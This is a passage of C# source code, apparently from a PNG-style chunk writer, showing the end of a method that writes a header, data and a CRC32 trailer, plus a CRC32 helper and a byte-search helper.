        output.Write(header);
        output.Write(data);
        var crc = Crc32([.. header.AsSpan(4), .. data]);
        var trailer = new byte[4];
        System.Buffers.Binary.BinaryPrimitives.WriteUInt32BigEndian(trailer, crc);
        output.Write(trailer);
    }

    private static uint Crc32(byte[] bytes)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in bytes)
        {
            crc ^= b;
            for (var k = 0; k < 8; k++) crc = (crc & 1) != 0 ? (crc >> 1) ^ 0xEDB88320u : crc >> 1;
        }
        return ~crc;
    }

    private static bool Contains(byte[] haystack, ReadOnlySpan<byte> needle) => haystack.AsSpan().IndexOf(needle) >= 0;
}
